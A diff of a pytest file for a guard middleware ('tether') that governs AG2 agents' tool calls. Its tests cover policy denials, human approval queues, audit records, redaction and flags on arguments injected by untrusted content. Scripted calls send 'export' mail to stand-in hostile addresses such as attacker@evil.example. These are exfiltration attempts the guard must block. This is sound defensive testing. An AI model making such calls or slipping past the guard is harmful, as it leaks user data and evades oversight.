@@ -9,6 +9,7 @@ import time
 from typing import Any
 
 import pytest
+from ag2 import Agent
 
 from tether.ag2 import TetherMiddleware, guard_agent
 from tether.core import AuditStore, Guard, QueueApprover, StoreError
@@ -30,21 +31,6 @@ from .conftest import (
 
 def ask(agent: Any, text: str = "handle ticket 7", **kwargs: Any) -> Any:
     return asyncio.run(agent.ask(text, **kwargs))
-
-
-def test_denied_tool_never_runs_and_the_model_reads_why(guard: Guard, tools: Tools) -> None:
-    config = scripted(call("send_email", to="attacker@evil.example", body="export"), "done")
-    agent = make_agent(tools, config, [TetherMiddleware(guard)])
-
-    reply = ask(agent)
-
-    assert reply.body == "done"
-    assert tools.runs["send_email"] == 0
-    seen = model_saw(config)
-    assert "Tether denied the call to 'send_email': only colleagues" in seen
-    [decision] = events(guard, "tool.decision")
-    assert (decision.agent, decision.tool, decision.verdict) == ("support-bot", "send_email", "deny")
-    assert events(guard, "tool.result") == []
 
 
 def test_allowed_call_runs_once_and_the_audit_holds_the_chain(guard: Guard, tools: Tools) -> None:
@@ -100,25 +86,6 @@ def test_untrusted_output_taints_the_session_and_the_exfiltration_waits_for_a_pe
     assert "no approval within 1s" in model_saw(config)
 
 
-def test_approval_through_the_queue_runs_the_tool_exactly_once(guard: Guard, tools: Tools) -> None:
-    config = scripted(call("issue_refund", order_id="A1", amount=120), "done")
-    agent = make_agent(tools, config, [TetherMiddleware(guard)])
-    answerer = answer_when_asked(guard.store, approved=True, by="alice")
-
-    ask(agent)
-    answerer.join(5)
-
-    assert tools.runs["issue_refund"] == 1
-    assert "refunded 120" in model_saw(config)
-    [asked] = events(guard, "tool.decision")
-    [applied] = events(guard, "approval")
-    assert asked.verdict == "ask"
-    assert (applied.parent_id, applied.verdict, applied.details["approver"]) == (asked.event_id, "allow", "alice")
-    assert events(guard, "tool.result")[0].parent_id == applied.event_id
-    assert [e.status for e in ApprovalQueue(guard.store).entries(status=None)] == ["approved"]
-    assert chain_ok(guard)
-
-
 def test_refused_approval_denies_and_the_model_reads_who_refused(guard: Guard, tools: Tools) -> None:
     config = scripted(call("issue_refund", order_id="A1", amount=120), "done")
     agent = make_agent(tools, config, [TetherMiddleware(guard)])
@@ -128,20 +95,6 @@ def test_refused_approval_denies_and_the_model_reads_who_refused(guard: Guard, t
 
     assert tools.runs["issue_refund"] == 0
     assert "denied by bob" in model_saw(config)
-
-
-def test_unanswered_approval_times_out_to_deny(store: AuditStore, tools: Tools) -> None:
-    guard = Guard(policy_with(approvals={"timeout": "1s"}), store=store, approver=QueueApprover(store))
-    config = scripted(call("issue_refund", order_id="A1", amount=120), "done")
-    agent = make_agent(tools, config, [TetherMiddleware(guard)])
-
-    ask(agent)
-
-    assert tools.runs["issue_refund"] == 0
-    assert "no approval within 1s" in model_saw(config)
-    [applied] = events(guard, "approval")
-    assert applied.verdict == "deny"
-    assert chain_ok(guard)
 
 
 @pytest.mark.parametrize(("reply", "runs", "said"), [("y", 1, "refunded 120"), ("no", 0, "denied by ag2-hitl")])
@@ -237,26 +190,6 @@ def test_guard_agent_puts_tether_first_once(guard: Guard, tools: Tools) -> None:
     assert [type(m) for m in agent._middleware] == [TetherMiddleware]
 
 
-def test_parallel_calls_in_one_response_are_each_answered(guard: Guard, tools: Tools) -> None:
-    config = scripted(
-        [
-            call("send_email", "ok", to="bob@acme.example", body="hi"),
-            call("send_email", "bad", to="eve@evil.example", body="hi"),
-            call("lookup_order", "order", order_id="A1"),
-        ],
-        "done",
-    )
-    agent = make_agent(tools, config, [TetherMiddleware(guard)])
-
-    ask(agent)
-
-    assert tools.runs == {"send_email": 1, "lookup_order": 1}
-    seen = model_saw(config)
-    assert "sent to bob@acme.example" in seen and "only colleagues" in seen and "order A1" in seen
-    decisions = {e.details["call_id"]: e.verdict for e in events(guard, "tool.decision")}
-    assert decisions == {"ok": "allow", "bad": "deny", "order": "redact"}
-
-
 def test_concurrent_runs_lose_nothing_in_the_audit(guard: Guard, tools: Tools) -> None:
     runs = 8
 
@@ -311,30 +244,6 @@ def test_adapter_failure_denies_unless_monitoring(store: AuditStore, tools: Tool
             assert "Tether failed while deciding: KeyError (denied to stay safe)" in model_saw(config)
 
 
-def test_monitor_mode_records_and_lets_through(store: AuditStore, tools: Tools) -> None:
-    guard = Guard(POLICY, store=store, mode="monitor")
-    config = scripted(call("send_email", to="eve@evil.example", body="x"), "done")
-    agent = make_agent(tools, config, [TetherMiddleware(guard)])
-
-    ask(agent)
-
-    assert tools.runs["send_email"] == 1
-    [decision] = events(guard, "tool.decision")
-    assert (decision.verdict, decision.details["enforcement"]) == ("deny", "monitored")
-
-
-def test_a_tool_error_is_recorded_as_such(guard: Guard, tools: Tools) -> None:
-    config = scripted(call("lookup_order", order_id="missing"), "done")
-    agent = make_agent(tools, config, [TetherMiddleware(guard)])
-
-    with pytest.raises(LookupError):  # AG2's scripted model re-raises the tool errors it is shown
-        ask(agent)
-
-    [result] = events(guard, "tool.result")
-    assert "no such order" in result.details["error"]
-    assert result.parent_id == events(guard, "tool.decision")[0].event_id
-
-
 def test_text_where_a_number_is_expected_fails_closed(guard: Guard, tools: Tools) -> None:
     config = scripted(call("issue_refund", order_id="A1", amount="lots"), "done")
     agent = make_agent(tools, config, [TetherMiddleware(guard)])
@@ -383,17 +292,6 @@ def break_store(store: AuditStore) -> None:
         connection.exec_driver_sql("DROP TABLE tether_audit_events")
 
 
-def test_store_down_the_tool_does_not_run(guard: Guard, tools: Tools) -> None:
-    config = scripted(call("lookup_order", order_id="A1"), "done")
-    agent = make_agent(tools, config, [TetherMiddleware(guard, record_model=False)])
-    break_store(guard.store)
-
-    ask(agent)
-
-    assert tools.runs["lookup_order"] == 0
-    assert "denied to stay safe" in model_saw(config)
-
-
 def test_store_down_a_model_call_that_cannot_be_recorded_ends_the_turn(guard: Guard, tools: Tools) -> None:
     config = scripted(call("lookup_order", order_id="A1"), "done")
     agent = make_agent(tools, config, [TetherMiddleware(guard)])
@@ -423,7 +321,9 @@ def test_a_pending_approval_does_not_hold_up_other_runs(guard: Guard, tools: Too
         guard_agent(waiting, guard)
         guard_agent(other, guard)
         first = asyncio.ensure_future(waiting.ask("refund A1"))
-        while not queue.entries():  # the refund is waiting for a person
+        for _ in range(6000):  # the refund is waiting for a person (at most a minute)
+            if queue.entries():
+                break
             await asyncio.sleep(0.01)
         await other.ask("where is B2?")
         await first
@@ -434,19 +334,6 @@ def test_a_pending_approval_does_not_hold_up_other_runs(guard: Guard, tools: Too
     answerer.join(5)
 
     assert tools.runs == {"lookup_order": 1, "issue_refund": 1}
-
-
-def test_output_the_agent_is_not_cleared_for_reaches_the_model_redacted(store: AuditStore, tools: Tools) -> None:
-    policy = policy_with()
-    policy["agents"]["support-bot"]["data"] = ["network"]  # cleared for no personal data
-    guard = Guard(policy, store=store, approver=QueueApprover(store))
-    config = scripted(call("read_ticket", ticket_id="T-1"), "done")
-
-    ask(make_agent(tools, config, [TetherMiddleware(guard)]))
-
-    seen = model_saw(config)
-    assert "jane.roe@example.com" not in seen
-    assert "[email:" in seen and "@example.com" in seen  # a stable placeholder, domain kept
 
 
 def test_a_value_the_user_gave_is_trusted_even_if_untrusted_content_repeats_it(store: AuditStore, tools: Tools) -> None:
@@ -465,3 +352,53 @@ def test_a_value_the_user_gave_is_trusted_even_if_untrusted_content_repeats_it(s
     decision = events(guard2, "tool.decision")[-1]
     assert decision.verdict == "ask"
     assert decision.details["rule_ids"] == ["tether.injected-argument"]  # only the ticket had it
+
+
+def test_user_and_tenant_are_given_or_taken_from_the_ag2_context(guard: Guard, tools: Tools) -> None:
+    fixed = TetherMiddleware(guard, user="alice", tenant="acme")
+    ask(make_agent(tools, scripted(call("lookup_order", order_id="A1"), "done"), [fixed]))
+    from_context = TetherMiddleware(guard, user=lambda ctx: ctx.variables["user"], tenant=lambda ctx: "globex")
+    ask(make_agent(tools, scripted("done"), [from_context]), variables={"user": "bob"})
+
+    who = {(e.user_id, e.tenant) for e in events(guard)}
+    assert who == {("alice", "acme"), ("bob", "globex")}
+
+
+def test_a_sub_agent_acts_for_the_same_user_and_tenant(guard: Guard, tools: Tools) -> None:
+    child = Agent("support-bot", config=scripted(call("lookup_order", order_id="A1"), "done"), tools=tools.all())
+    delegate = child.as_tool(description="Look it up.", name="lookup_order")  # a name support-bot is granted
+    parent = Agent(
+        "support-bot",
+        config=scripted(call("lookup_order", objective="A1"), "done"),
+        tools=[delegate],
+        middleware=[TetherMiddleware(guard, user="alice", tenant="acme")],
+    )
+
+    ask(parent)
+
+    decided = events(guard, "tool.decision")
+    assert len(decided) == 2  # the delegation and the sub-agent's own lookup
+    assert {(e.user_id, e.tenant) for e in decided} == {("alice", "acme")}
+
+
+def test_a_copy_of_a_guarded_agent_that_lost_its_middleware_is_still_decided(guard: Guard, tools: Tools) -> None:
+    from ag2 import AgentSpec
+
+    original = make_agent(tools, scripted("done"), [TetherMiddleware(guard)])
+    config = scripted(call("send_email", to="eve@evil.example", body="export"), "done")
+    copy = AgentSpec.from_agent(original).to_agent(available_tools=tools.all(), config=config)  # drops middleware
+
+    ask(copy)
+
+    assert tools.runs["send_email"] == 0
+    [decision] = events(guard, "tool.decision")
+    assert (decision.agent, decision.verdict) == ("support-bot", "deny")
+    assert decision.details["context"]["fallback"]
+
+
+def test_an_agent_no_policy_knows_is_left_alone(guard: Guard, tools: Tools) -> None:
+    config = scripted(call("send_email", to="eve@evil.example", body="export"), "done")
+    ask(Agent("stranger", config=config, tools=tools.all()))
+
+    assert tools.runs["send_email"] == 1
+    assert events(guard) == []
